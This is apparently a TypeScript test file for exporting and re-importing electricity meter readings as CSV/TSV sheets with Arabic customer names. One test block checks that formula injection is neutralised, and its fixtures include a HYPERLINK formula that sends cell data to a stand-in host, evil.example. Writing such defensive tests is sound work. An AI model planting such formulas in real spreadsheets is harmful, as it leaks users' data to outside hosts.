import { parse as parseDelimited } from 'papaparse';
import { READING_SHEET_COLUMNS, readingSheetCells, readingSheetCsv, readingSheetTsv } from './reading-sheet';
import { planReadingsImport, readingSheetOf } from './readings-import';
import { Quantity } from '../money/quantity';
import { sheetTextRows } from '../imports/sheet-file';

const rows = [
  {
    id: 'a1',
    customerNumber: 1000,
    name: 'أحمد, "أبو علي"',
    box: '3',
    address: null,
    ampere: 5,
    previousKwh: 100,
    currentKwh: 150.5,
    newCurrentKwh: '',
    previousEstimated: false,
    currentEstimated: false,
  },
];

describe('the readings sheet', () => {
  it('has the columns of the export, newCurrentKwh last', () => {
    expect(READING_SHEET_COLUMNS.map((column) => column.key)).toEqual([
      'id',
      'customerNumber',
      'name',
      'box',
      'address',
      'ampere',
      'previousKwh',
      'previousEstimated',
      'currentKwh',
      'currentEstimated',
      'newCurrentKwh',
    ]);
  });

  it('heads the cells with the keys and leaves missing values and the new reading empty', () => {
    expect(readingSheetCells(rows)).toEqual([
      READING_SHEET_COLUMNS.map((column) => column.key),
      ['a1', '1000', 'أحمد, "أبو علي"', '3', '', '5', '100', '', '150.5', '', ''],
    ]);
  });

  it('copies as tab-separated lines for Excel', () => {
    expect(readingSheetTsv(rows).split('\n')[1]).toBe('a1\t1000\tأحمد, "أبو علي"\t3\t\t5\t100\t\t150.5\t\t');
  });

  it('downloads as CSV in UTF-8 with a byte-order mark, quoting what needs it, so Excel keeps the Arabic', () => {
    const csv = readingSheetCsv(rows);
    expect(csv.startsWith('\uFEFFid,customerNumber,')).toBe(true);
    expect(csv.split('\r\n')[1]).toBe('a1,1000,"أحمد, ""أبو علي""",3,,5,100,,150.5,,');
  });
});

describe('the readings sheet marks an estimated reading', () => {
  const estimated = [
    { ...rows[0], currentKwh: 180, currentEstimated: true },
    { ...rows[0], id: 'b2', previousKwh: 180, currentKwh: 0, previousEstimated: true },
  ];

  it("says 'نعم' in the column beside the estimated reading, the number alone in its cell", () => {
    expect(readingSheetCells(estimated).map((cells) => cells.slice(6, 10))).toEqual([
      ['previousKwh', 'previousEstimated', 'currentKwh', 'currentEstimated'],
      ['100', '', '180', 'نعم'],
      ['180', 'نعم', '0', ''],
    ]);
  });

  it('imports back once the new readings are filled: the import passes over the mark columns', () => {
    const filled = estimated.map((row) => ({ ...row, newCurrentKwh: 200 }));
    const sheet = readingSheetOf(sheetTextRows(readingSheetCsv(filled), 'csv'));
    const customer = { name: 'أحمد', box: '3', lastMonthConsumption: null };
    const plan = planReadingsImport(
      sheet.readings,
      [
        {
          ...customer,
          id: 'a1',
          customerNumber: 1000,
          previousKwh: Quantity.parse(100),
          currentKwh: Quantity.parse(180),
          currentEstimated: true,
        },
        {
          ...customer,
          id: 'b2',
          customerNumber: 1001,
          previousKwh: Quantity.parse(180),
          currentKwh: Quantity.parse(0),
          previousEstimated: true,
        },
      ],
      sheet.rowNumbers,
    );
    expect(plan.skipped).toEqual([]);
    expect(plan.updates.map((update) => [update.id, update.currentKwh.toNumber()])).toEqual([
      ['a1', 200],
      ['b2', 200],
    ]);
  });
});

describe('the readings sheet keeps what customers typed as data', () => {
  const hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"اضغط")';
  const risky = [
    { ...rows[0], name: hyperlink, box: '-عميل', address: '+961 3 123456', currentKwh: -12.5 },
    { ...rows[0], id: 'b2', name: '@SUM(A1:A9)', box: null, address: '\t=1+1', newCurrentKwh: 175 },
  ];
  const opened = (text: string, delimiter: string) => {
    const { data, errors } = parseDelimited<(string | number | null)[]>(text.replace(/^\uFEFF/, ''), {
      delimiter,
      dynamicTyping: true,
      skipEmptyLines: true,
    });
    expect(errors).toEqual([]);
    return data.slice(1);
  };

  it.each([
    ['the CSV download', () => readingSheetCsv(risky), ','],
    ['the TSV copy', () => readingSheetTsv(risky), '\t'],
  ])('%s, opened by a CSV parser, has no cell beginning with a formula character', (_, text, delimiter) => {
    const data = opened(text(), delimiter);
    for (const cell of data.flat()) if (typeof cell === 'string') expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(data.map((row) => row.slice(2, 5))).toEqual([
      [`'${hyperlink}`, "'-عميل", "'+961 3 123456"],
      ["'@SUM(A1:A9)", null, expect.stringMatching(/^'\s?=1\+1$/)],
    ]);
  });

  it.each([
    ['the CSV download', () => readingSheetCsv(risky), ','],
    ['the TSV copy', () => readingSheetTsv(risky), '\t'],
  ])('%s keeps the numbers numbers, a negative one too', (_, text, delimiter) => {
    expect(opened(text(), delimiter).map((row) => [row[1], ...row.slice(5)])).toEqual([
      [1000, 5, 100, null, -12.5, null, null],
      [1000, 5, 100, null, 150.5, null, 175],
    ]);
  });
});

describe('reading a readings sheet back (readingSheetOf over the one sheet reader)', () => {
  const read = (text: string, format: 'csv' | 'tsv') => readingSheetOf(sheetTextRows(text, format));

  it('keys each data row by the header, from the TSV copy, with the row number the sheet shows', () => {
    expect(read(readingSheetTsv(rows).replace(/\t\n/, '\t175\n'), 'tsv')).toEqual({
      readings: [
        {
          id: 'a1',
          customerNumber: '1000',
          name: 'أحمد, "أبو علي"',
          box: '3',
          address: '',
          ampere: '5',
          previousKwh: '100',
          previousEstimated: '',
          currentKwh: '150.5',
          currentEstimated: '',
          newCurrentKwh: '175',
        },
      ],
      rowNumbers: [2],
    });
  });

  it('reads the CSV download back, byte-order mark, quotes and all', () => {
    const { readings } = read(readingSheetCsv(rows), 'csv');
    expect(readings[0]).toMatchObject({ id: 'a1', name: 'أحمد, "أبو علي"', newCurrentKwh: '' });
  });

  it('reads a CSV that Excel saved with semicolons', () => {
    expect(read('id;newCurrentKwh\r\na1;12,5\r\n', 'csv').readings).toEqual([
      { id: 'a1', newCurrentKwh: '12,5' },
    ]);
  });

  it('skips blank rows but keeps the numbers the sheet shows: a header on row 2, a reading on row 4', () => {
    expect(readingSheetOf([[''], ['id', 'newCurrentKwh'], ['', ''], ['a1', '5']])).toEqual({
      readings: [{ id: 'a1', newCurrentKwh: '5' }],
      rowNumbers: [4],
    });
  });

  it('refuses an empty sheet, a sheet without rows, a repeated column and a header without the reading column', () => {
    expect(() => read('', 'csv')).toThrow('الملف أو النص الملصق فارغ');
    expect(() => read('id,newCurrentKwh\n', 'csv')).toThrow('لا يوجد بعد سطر العناوين أي صف');
    expect(() => read('newCurrentKwh,القراءة الجديدة\n1,2\n', 'csv')).toThrow(
      'العمود القراءة الجديدة مكرر في سطر العناوين',
    );
    expect(() => read('foo,bar\n1,2\n', 'csv')).toThrow(
      'سطر العناوين لا يحتوي على عمود القراءة الجديدة: newCurrentKwh أو «القراءة الجديدة»',
    );
  });
});
